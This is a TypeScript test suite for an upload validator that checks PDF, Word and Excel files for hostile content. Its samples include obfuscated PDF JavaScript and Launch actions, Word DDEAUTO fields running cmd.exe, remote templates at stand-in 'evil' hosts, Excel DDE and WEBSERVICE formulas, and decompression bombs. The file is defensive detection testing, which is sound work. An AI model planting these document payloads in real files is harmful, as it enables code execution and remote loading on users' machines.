import { deflateSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { openFile } from '../../server/domain/statements/openFile.ts';
import { soundFile } from '../../server/platform/files/keep.ts';
import { Refused } from '../../server/platform/http/refused.ts';
import { docx, xlsx, zipped } from '../support/zip.ts';

/** Documents that run, load from elsewhere or hide another file, however it is spelt and packed. */

const outcomeOf = (name: string, bytes: Buffer | string): Promise<unknown> =>
  soundFile({ name, bytes: Buffer.from(bytes as string) }).then(
    ({ kind }) => kind,
    (error: unknown) => {
      if (error instanceof Refused) return error.values.says ?? error.code;
      throw error;
    },
  );

const pdf = (...objects: (string | Buffer)[]): Buffer =>
  Buffer.concat(
    ['%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n', ...objects, '\ntrailer<<>>\n%%EOF\n'].map(
      (part) => Buffer.from(part as string),
    ),
  );
/** Objects within a compressed stream; `head` is the dictionary in front of it. */
const packed = (
  objects: string,
  head = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
  data = deflateSync(objects),
) =>
  Buffer.concat([
    Buffer.from(`7 0 obj<<${head}/Length ${data.length}>>stream\n`),
    data,
    Buffer.from('\nendstream endobj'),
  ]);
const SCRIPT = '8 0 <</S/JavaScript/JS(app.alert(1))>>';

it.each([
  ['a plain document', pdf('3 0 obj<</S/URI/URI(https://example.com/a)>>endobj'), 'pdf'],
  ['compressed objects', pdf(packed('8 0 <</Type/Page/Annots[]>>')), 'pdf'],
  ['an outline with a first entry', pdf('3 0 obj<</Type/Outlines/First 4 0 R/Count 1>>endobj'), 'pdf'],
  ['a name written with codes', pdf('3 0 obj<</S/J#61vaScript/JS(x)>>endobj'), 'fileRuns'],
  ['each letter as a code', pdf('3 0 obj<</S/#4a#61#76#61#53#63#72#69#70#74>>endobj'), 'fileRuns'],
  ['a program to start', pdf('3 0 obj<</S/Laun#63h/F(cmd)>>endobj'), 'fileRuns'],
  ['a form that is sent away', pdf('3 0 obj<</S /SubmitForm/F(http://x)>>endobj'), 'fileRuns'],
  ['another document to open', pdf('3 0 obj<</S/GoToR/F(\\\\\\\\host\\\\share)>>endobj'), 'fileRuns'],
  ['a file within', pdf('3 0 obj<</Type/EmbeddedFile>>endobj'), 'fileRuns'],
  ['forms of another kind', pdf('3 0 obj<</XFA 4 0 R>>endobj'), 'fileRuns'],
  ['encryption', pdf('trailer<</Encrypt 5 0 R>>'), 'fileEncrypted'],
  ['a script in compressed objects', pdf(packed(SCRIPT)), 'fileRuns'],
  ['a script with codes in compressed objects', pdf(packed('8 0 <</S/J#61vaScript>>')), 'fileRuns'],
  [
    'compressed objects whose type has codes',
    pdf(packed(SCRIPT, '/Type/Obj#53tm/N 1/First 4/Filter/Fl#61teDecode')),
    'fileRuns',
  ],
  ['compressed objects without a type', pdf(packed(SCRIPT, '/N 1/First 4/Filter[/FlateDecode]')), 'fileRuns'],
  [
    'compressed objects with the end of one in a string',
    pdf(packed(SCRIPT, '/X(endobj 9 0 obj<<)/Type/ObjStm/N 1/First 4/Filter/FlateDecode')),
    'fileRuns',
  ],
  [
    'objects that are not compressed',
    pdf(packed(SCRIPT, '/Type/ObjStm/N 1/First 4', Buffer.from(SCRIPT))),
    'fileRuns',
  ],
  [
    'objects behind two filters',
    pdf(packed(SCRIPT, '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]')),
    'fileRuns',
  ],
  [
    'two filters of one name',
    pdf(packed(SCRIPT, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/Filter[]')),
    'fileRuns',
  ],
  [
    'objects behind a predictor',
    pdf(packed(SCRIPT, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>')),
    'fileRuns',
  ],
  ['objects in another file', pdf(packed(SCRIPT, '/Type/ObjStm/N 1/First 4/F(other)')), 'fileRuns'],
  ['damaged objects', pdf(packed('', undefined, Buffer.from('nothing packed'))), 'fileDamaged'],
  ['a bomb of objects', pdf(packed('', undefined, deflateSync(Buffer.alloc(40 << 20)))), 'fileBomb'],
  [
    'many objects that are a bomb together',
    pdf(...Array.from({ length: 4 }, () => packed('', undefined, deflateSync(Buffer.alloc(12 << 20))))),
    'fileBomb',
  ],
  ['headers within headers without end', pdf('obj<<('.repeat(200_000)), 'fileDamaged'],
])('a paper with %s', async (_what, bytes, outcome) => {
  expect(await outcomeOf('a.pdf', bytes)).toBe(outcome);
});

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relations = (name: string, ...all: string[]) => ({
  name,
  content: `<?xml version="1.0" encoding="UTF-8"?><Relationships>${all.join('')}</Relationships>`,
});
const relation = (type: string, target: string, more = '') =>
  `<Relationship Id="r1" Type="${REL}/${type}" Target="${target}" ${more}/>`;
const document = (body: string) => [
  { name: 'word/footer1.xml', content: `<w:ftr xmlns:w="w">${body}</w:ftr>` },
];
const field = (...codes: string[]) =>
  `<w:fldChar w:fldCharType="begin"/>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:fldChar w:fldCharType="end"/>`;
const EXTERNAL = 'TargetMode="External"';
const sheet = (body: string) => [
  { name: 'xl/worksheets/sheet1.xml', content: `<worksheet>${body}</worksheet>` },
];

it.each([
  [
    'a link to a site',
    docx([relations('word/_rels/document.xml.rels', relation('hyperlink', 'https://example.com', EXTERNAL))]),
    'docx',
  ],
  ['fields that only count', docx(document(field(' PAGE ') + field(' HYPERLINK "https://x/link" '))), 'docx'],
  [
    'the usual main part',
    docx([relations('_rels/.rels', relation('officeDocument', 'word/document.xml'))]),
    'docx',
  ],
  [
    'another main part',
    docx([relations('_rels/.rels', relation('officeDocument', 'word/evil.xml'))]),
    'fileDiffers',
  ],
  [
    'a template from elsewhere',
    docx([
      relations(
        'word/_rels/settings.xml.rels',
        relation('attachedTemplate', 'https://evil/t.dotm', EXTERNAL),
      ),
    ]),
    'fileLoads',
  ],
  [
    'a template in any spelling',
    docx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: `<r:Relationships xmlns:r='x'><r:Relationship Id='a' Type='${REL}/attached&#84;emplate' Target='\\\\host\\t' TargetMode='&#69;xternal'/></r:Relationships>`,
      },
    ]),
    'fileLoads',
  ],
  [
    'a template in another encoding',
    docx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: Buffer.from(
          `\uFEFF<Relationships>${relation('attachedTemplate', 'x')}</Relationships>`,
          'utf16le',
        ),
      },
    ]),
    'fileLoads',
  ],
  [
    'a template in an encoding of its own',
    docx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: `<?xml version="1.0" encoding="utf-7"?><Relationships/>`,
      },
    ]),
    'fileDamaged',
  ],
  [
    'a template by an entity',
    docx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: `<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>`,
      },
    ]),
    'fileDamaged',
  ],
  [
    'a picture from elsewhere',
    docx([relations('word/_rels/document.xml.rels', relation('image', 'https://evil/p.png', EXTERNAL))]),
    'fileLoads',
  ],
  [
    'a link to a share',
    docx([relations('word/_rels/document.xml.rels', relation('hyperlink', '\\\\host\\share', EXTERNAL))]),
    'fileLoads',
  ],
  [
    'a frame',
    docx([relations('word/_rels/webSettings.xml.rels', relation('frame', 'https://evil', EXTERNAL))]),
    'fileLoads',
  ],
  [
    'another document within',
    docx([relations('word/_rels/document.xml.rels', relation('aFChunk', 'a.html'))]),
    'fileLoads',
  ],
  [
    'an object',
    docx([relations('word/_rels/document.xml.rels', relation('oleObject', 'embeddings/o.bin'))]),
    'fileMacros',
  ],
  [
    'an object under another name',
    docx([{ name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
    'fileMacros',
  ],
  [
    'an archive within',
    docx([{ name: 'word/media/image2.png', content: zipped([{ name: 'a', content: 'a' }]) }]),
    'fileMacros',
  ],
  [
    'macros under another name',
    docx([relations('word/_rels/document.xml.rels', relation('vbaProject', 'media/a.bin'))]),
    'fileMacros',
  ],
  [
    'a field that asks a program',
    docx(document(field(' DDEAUTO c:\\windows\\cmd.exe "/k calc" '))),
    'fileLoads',
  ],
  ['a field in pieces', docx(document(field(' D', 'DE', 'AUTO c:\\x '))), 'fileLoads'],
  [
    'a field within a field',
    docx(
      document(
        `<w:fldChar w:fldCharType="begin"/><w:instrText> IF 1 = </w:instrText>${field('dde x')}<w:fldChar w:fldCharType="end"/>`,
      ),
    ),
    'fileLoads',
  ],
  [
    'a field whose name is made',
    docx(
      document(
        `<w:fldChar w:fldCharType="begin"/>${field(' QUOTE 68 68 69 ')}<w:instrText> x</w:instrText><w:fldChar w:fldCharType="end"/>`,
      ),
    ),
    'fileLoads',
  ],
  [
    'a field in one tag',
    docx(document(`<w:fldSimple w:instr=" INCLUDE&#80;ICTURE https://evil/p "/>`)),
    'fileLoads',
  ],
  ['a part that is no XML', docx(document('<a <b>')), 'fileDamaged'],
])('a text with %s', async (_what, bytes, outcome) => {
  expect(await outcomeOf('a.docx', bytes)).toBe(outcome);
});

it.each([
  ['formulas', xlsx(sheet('<c><f>SUM(A1:A9)&amp;"a|b!c"</f></c>')), 'xlsx'],
  [
    'another book',
    xlsx([
      relations('xl/_rels/workbook.xml.rels', relation('externalLink', 'externalLinks/externalLink1.xml')),
    ]),
    'fileLoads',
  ],
  [
    'another book without its relation',
    xlsx([
      { name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink><externalBook/></externalLink>' },
    ]),
    'fileLoads',
  ],
  [
    'a program to ask',
    xlsx([
      { name: 'xl/a.xml', content: '<externalLink><x:ddeLink xmlns:x="x" ddeService="cmd"/></externalLink>' },
    ]),
    'fileLoads',
  ],
  ['a program to ask in a cell', xlsx(sheet(`<f>cmd|' /c calc'!A0</f>`)), 'fileLoads'],
  ['a service to ask', xlsx(sheet('<f>WEBSERVICE ("http://evil")</f>')), 'fileLoads'],
  [
    'a connection',
    xlsx([relations('xl/_rels/workbook.xml.rels', relation('connections', 'connections.xml'))]),
    'fileLoads',
  ],
  [
    'a sheet of macros',
    xlsx([relations('xl/_rels/workbook.xml.rels', relation('xlMacrosheet', 'worksheets/sheet2.xml'))]),
    'fileMacros',
  ],
  [
    'a name that opens macros',
    xlsx([
      {
        name: 'xl/b.xml',
        content: '<definedNames><definedName name="_xlnm.Auto_Open">Sheet1!$A$1</definedName></definedNames>',
      },
    ]),
    'fileMacros',
  ],
  ['a control', xlsx(sheet('<controls><control r:id="r1"/></controls>')), 'fileMacros'],
])('a book with %s', async (_what, bytes, outcome) => {
  expect(await outcomeOf('a.xlsx', bytes)).toBe(outcome);
});

it('a workbook that inflates to more than any statement is refused before it is read as one', async () => {
  const bomb = xlsx([{ name: 'xl/worksheets/sheet2.xml', content: Buffer.alloc(80 << 20) }]);
  expect(bomb.length).toBeLessThan(1 << 20);
  await expect(openFile(bomb)).rejects.toMatchObject({ why: 'workbook' });
});
